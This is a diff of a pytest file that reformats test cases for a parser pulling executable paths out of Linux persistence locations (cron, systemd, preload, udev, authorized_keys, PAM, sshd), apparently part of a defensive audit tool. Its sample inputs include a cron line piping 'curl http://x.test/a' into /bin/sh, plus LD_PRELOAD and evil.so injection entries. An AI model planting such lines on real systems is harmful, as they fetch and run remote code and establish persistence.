@@ -27,29 +27,69 @@ CASES = (
     ("cron", b"0 1 * * * curl http://x.test/a|/bin/sh", ["/bin/sh"]),
     ("cron", b"0 1 * * * x --config=/etc/y $HOME/z /opt/*/w", ["/etc/y"]),
     ("cron", "0 1 * * * /opt/雪/\udcff".encode("utf-8", "surrogateescape"), ["/opt/雪/\udcff"]),
-    ("systemd", b"[Service]\nExecStart=/usr/sbin/x -D\nExecStop=-/bin/kill", ["/usr/sbin/x", "/bin/kill"]),
-    ("systemd", b"ExecStartPre=!!/opt/a\nExecStartPost=+/opt/b\nExecReload=@/opt/c d", ["/opt/a", "/opt/b", "/opt/c"]),
+    (
+        "systemd",
+        b"[Service]\nExecStart=/usr/sbin/x -D\nExecStop=-/bin/kill",
+        ["/usr/sbin/x", "/bin/kill"],
+    ),
+    (
+        "systemd",
+        b"ExecStartPre=!!/opt/a\nExecStartPost=+/opt/b\nExecReload=@/opt/c d",
+        ["/opt/a", "/opt/b", "/opt/c"],
+    ),
     ("systemd", b"EnvironmentFile=-/etc/default/x\nEnvironment=A=/opt/no", ["/etc/default/x"]),
     ("systemd", b"ExecStart=/bin/sh -c \\\n  '/opt/a && /opt/b'", ["/bin/sh", "/opt/a", "/opt/b"]),
     ("systemd", b"ExecStart=/usr/bin/x %i /run/%n\nDescription=/opt/no", ["/usr/bin/x"]),
     ("systemd", b"ExecStart = /usr/bin/spaced", ["/usr/bin/spaced"]),
-    ("preload", b"/lib/evil.so /tmp/b.so:/tmp/c.so\n/d.so", ["/lib/evil.so", "/tmp/b.so", "/tmp/c.so", "/d.so"]),
-    ("shell", b"source /etc/x\n. /etc/y\n/opt/run --now /etc/arg", ["/etc/x", "/etc/y", "/opt/run"]),
+    (
+        "preload",
+        b"/lib/evil.so /tmp/b.so:/tmp/c.so\n/d.so",
+        ["/lib/evil.so", "/tmp/b.so", "/tmp/c.so", "/d.so"],
+    ),
+    (
+        "shell",
+        b"source /etc/x\n. /etc/y\n/opt/run --now /etc/arg",
+        ["/etc/x", "/etc/y", "/opt/run"],
+    ),
     ("shell", b"[ -f /etc/no ] && /opt/yes; echo /etc/no", ["/opt/yes"]),
-    ("shell", b"DAEMON=/usr/sbin/d\nPATH=/opt/bin\nexport LD_PRELOAD=/tmp/p.so", ["/usr/sbin/d", "/tmp/p.so"]),
+    (
+        "shell",
+        b"DAEMON=/usr/sbin/d\nPATH=/opt/bin\nexport LD_PRELOAD=/tmp/p.so",
+        ["/usr/sbin/d", "/tmp/p.so"],
+    ),
     ("shell", b"nohup /tmp/a & exec /tmp/b\nexec -a x /tmp/c", ["/tmp/a", "/tmp/b", "/tmp/c"]),
     ("shell", b"python3 -u /opt/x.py /etc/arg", ["/opt/x.py"]),
     ("shell", b"if [ 1 ]; then /opt/a; else /opt/b; fi", ["/opt/a", "/opt/b"]),
     ("shell", b"ls bin/x ./y ../z", []),
-    ("inittab", b"1:2345:respawn:/sbin/getty 38400 tty1\nx:3:once:+/opt/x\nbroken", ["/sbin/getty", "/opt/x"]),
-    ("authorized_keys", b'command="/opt/a \\"b\\"",no-pty ssh-rsa AAAA/no/path== x\nssh-rsa AAAA', ["/opt/a"]),
+    (
+        "inittab",
+        b"1:2345:respawn:/sbin/getty 38400 tty1\nx:3:once:+/opt/x\nbroken",
+        ["/sbin/getty", "/opt/x"],
+    ),
+    (
+        "authorized_keys",
+        b'command="/opt/a \\"b\\"",no-pty ssh-rsa AAAA/no/path== x\nssh-rsa AAAA',
+        ["/opt/a"],
+    ),
     ("authorized_keys", b'environment="LD_PRELOAD=/tmp/x.so" ssh-rsa AAAA', ["/tmp/x.so"]),
-    ("udev", b'ACTION=="add", RUN+="/tmp/x %k", PROGRAM=="/bin/y", ENV{A}="/no"', ["/tmp/x", "/bin/y"]),
+    (
+        "udev",
+        b'ACTION=="add", RUN+="/tmp/x %k", PROGRAM=="/bin/y", ENV{A}="/no"',
+        ["/tmp/x", "/bin/y"],
+    ),
     ("udev", b'RUN{program}+="/opt/z", IMPORT{program}="/opt/w"', ["/opt/z", "/opt/w"]),
     ("desktop", b"[Desktop Entry]\nExec=/opt/app %U\nTryExec=/opt/app\nIcon=/opt/no", ["/opt/app"]),
-    ("lines", b"auth optional pam_exec.so /tmp/x.sh\ninstall usb /bin/sh -c /opt/y", ["/tmp/x.sh", "/bin/sh", "/opt/y"]),
-    ("sshd", b"ForceCommand /opt/a\nHostKey /etc/ssh/no\nSubsystem sftp /usr/lib/s", ["/opt/a", "/usr/lib/s"]),
-)  # fmt: skip
+    (
+        "lines",
+        b"auth optional pam_exec.so /tmp/x.sh\ninstall usb /bin/sh -c /opt/y",
+        ["/tmp/x.sh", "/bin/sh", "/opt/y"],
+    ),
+    (
+        "sshd",
+        b"ForceCommand /opt/a\nHostKey /etc/ssh/no\nSubsystem sftp /usr/lib/s",
+        ["/opt/a", "/usr/lib/s"],
+    ),
+)
 
 
 @pytest.mark.parametrize(("reader", "content", "paths"), CASES)
